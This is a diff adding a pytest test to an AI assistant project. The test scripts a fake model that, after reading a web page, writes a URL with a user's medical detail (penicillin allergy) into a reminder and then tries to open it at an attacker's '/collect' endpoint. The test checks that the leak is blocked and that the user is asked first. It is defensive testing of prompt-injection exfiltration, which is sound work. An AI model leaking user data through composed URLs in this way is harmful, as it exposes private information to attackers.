@@ -196,3 +196,26 @@ async def test_http_posts_request_names_a_composed_url_and_not_a_copied_one(
     assert composed in first.preview
     assert second.preview is not None and "composed" not in second.preview  # the owner typed that one
     assert received == []
+
+
+
+@pytest.mark.parametrize("earlier_turn", [False, True])
+async def test_a_composed_url_stored_in_a_reminder_and_listed_back_is_still_composed(
+        web_app, fake_llm, channel, site, earlier_turn):
+    """A reminder made after the page carries the composed URL (message mode: stored without
+    asking). ``proactive_list`` then returns it in a result whose arguments do not hold it: Bruce's
+    own listing of what the model wrote must not make the URL "copied", in this turn or a later one."""
+    leak = site.url("/collect?leak=allergic-to-penicillin")
+    fake_llm.add(Step.tool_calls(("web_read_url", {"url": site.url("/page")})),
+                 Step.tool_calls(("proactive_create", {"execution_mode": "message", "in_seconds": 86400,
+                                                       "content": f"see {leak}"})))
+    if earlier_turn:
+        fake_llm.add(Step.text("Noted."))
+        await say(web_app, "what does my garden page say?")
+        fake_llm.add(Step.tool_calls(("web_search", {"query": "tomato care"})))
+    fake_llm.add(Step.tool_calls(("proactive_list", {})),
+                 Step.tool_calls(("web_read_url", {"url": leak})),  # CALL: "copied" from Bruce's own listing
+                 Step.text("I asked before opening that link."))
+    await say(web_app, "and what else?" if earlier_turn else "what does my garden page say?")
+    assert "/collect" not in site.paths  # the attacker's server saw nothing
+    assert [r.tool_name for _, r in channel.confirmations] == ["web.read_url"]
